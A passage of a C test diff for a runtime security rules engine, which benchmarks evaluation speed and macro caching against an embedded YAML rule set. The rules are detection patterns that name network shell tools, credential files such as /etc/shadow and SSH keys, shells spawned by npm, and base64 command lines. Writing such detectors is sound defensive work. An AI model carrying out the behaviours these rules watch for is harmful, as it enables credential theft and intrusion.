+    "- list: shell_binaries\n  items: [ash, bash, csh, ksh, sh, tcsh, zsh, dash]\n"
+    "- list: net_tools\n  items: [curl, wget, nc, ncat, netcat, socat, ssh, scp]\n"
+    "- list: sensitive_files\n  items: [/etc/shadow, /etc/sudoers, /etc/pam.conf, "
+    "/root/.ssh/id_rsa]\n"
+    "- list: cred_dirs\n  items: [/root/.ssh, /home, /root/.aws, /root/.npmrc]\n"
+    "- macro: spawned_process\n  condition: evt.type in (execve, execveat)\n"
+    "- macro: open_read\n  condition: evt.type in (open, openat, openat2) and evt.is_open_read = "
+    "true\n"
+    "- macro: open_write\n  condition: evt.type in (open, openat, openat2) and evt.is_open_write = "
+    "true\n"
+    "- macro: outbound\n  condition: evt.type = connect and fd.typechar in (4, 6) and not fd.snet "
+    "in "
+    "(\"127.0.0.0/8\", \"10.0.0.0/8\")\n"
+    "- rule: shell\n  desc: d\n  condition: spawned_process and proc.name in (shell_binaries) and "
+    "proc.pname in (node, npm)\n  output: '%proc.cmdline'\n  priority: warning\n"
+    "- rule: nettool\n  desc: d\n  condition: spawned_process and proc.name in (net_tools)\n"
+    "  output: o\n  priority: warning\n"
+    "- rule: sensitive\n  desc: d\n  condition: open_read and fd.name in (sensitive_files)\n  "
+    "output: o\n"
+    "  priority: error\n"
+    "- rule: creds\n  desc: d\n  condition: open_read and fd.name pmatch (cred_dirs)\n  output: o\n"
+    "  priority: error\n"
+    "- rule: write etc\n  desc: d\n  condition: open_write and fd.name startswith /etc\n  output: "
+    "o\n"
+    "  priority: error\n"
+    "- rule: outbound\n  desc: d\n  condition: outbound and not proc.aname in (git)\n  output: o\n"
+    "  priority: notice\n"
+    "- rule: glob\n  desc: d\n  condition: open_write and fd.name glob '/tmp/*.sh'\n  output: o\n"
+    "  priority: notice\n"
+    "- rule: cmdline\n  desc: d\n  condition: spawned_process and proc.cmdline icontains base64\n"
+    "  output: o\n  priority: notice\n";
 
 static void test_no_alloc_and_speed(void)
 {
@@ -1029,10 +1236,11 @@ static void test_no_alloc_and_speed(void)
 	char yaml[65536];
 	size_t off = (size_t)snprintf(yaml, sizeof(yaml), "%s", bench_rules);
 	for (int i = 0; i < 32; i++) /* 40 rules in all */
-		off += (size_t)snprintf(yaml + off, sizeof(yaml) - off,
-					"- rule: extra %d\n  desc: d\n  condition: open_read and fd.name startswith "
-					"/opt/%d and proc.name != x%d\n  output: o\n  priority: info\n",
-					i, i, i);
+		off += (size_t)snprintf(
+		    yaml + off, sizeof(yaml) - off,
+		    "- rule: extra %d\n  desc: d\n  condition: open_read and fd.name startswith "
+		    "/opt/%d and proc.name != x%d\n  output: o\n  priority: info\n",
+		    i, i, i);
 	int rc = sf_rules_load_buffer(&rs, "bench.yaml", yaml, off, err, sizeof(err));
 	CHECK_EQ(rc, 0);
 	if (rc) {
@@ -1059,11 +1267,20 @@ static void test_no_alloc_and_speed(void)
 	CHECK_EQ(during, 0);
 	CHECK_EQ(matches, n); /* per 4 events: -, outbound, shell, sensitive + creds */
 	double s = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
-	fprintf(stderr, "eval: %d events, %.0f events/s, %.1f rule checks per event, %lu allocations\n", n,
+	fprintf(stderr,
+		"eval: %d events, %.0f events/s, %.1f rule checks per event, %lu allocations\n", n,
 		(double)n / s, (double)ctx->checks / (double)n, during);
+	/* macro results are per event: shared by rules, never carried over */
+	sf_rules_ctx_init(ctx);
+	ctx->gen = UINT32_MAX - 1; /* the stamp generation wraps in the loop */
+	for (int i = 0; i < 8; i++) {
+		int m = sf_rules_eval(rs, ctx, &evs[i & 3], NULL, NULL);
+		CHECK_EQ(m, (i & 3) == 3 ? 2 : (i & 3) ? 1 : 0);
+	}
 	/* sanity of the wrap itself */
 	before = allocs;
-	free(malloc(1));
+	void *volatile probe = malloc(1);
+	free(probe);
 	CHECK_EQ(allocs - before, 1);
 	free(ctx);
 	sf_rules_free(rs);
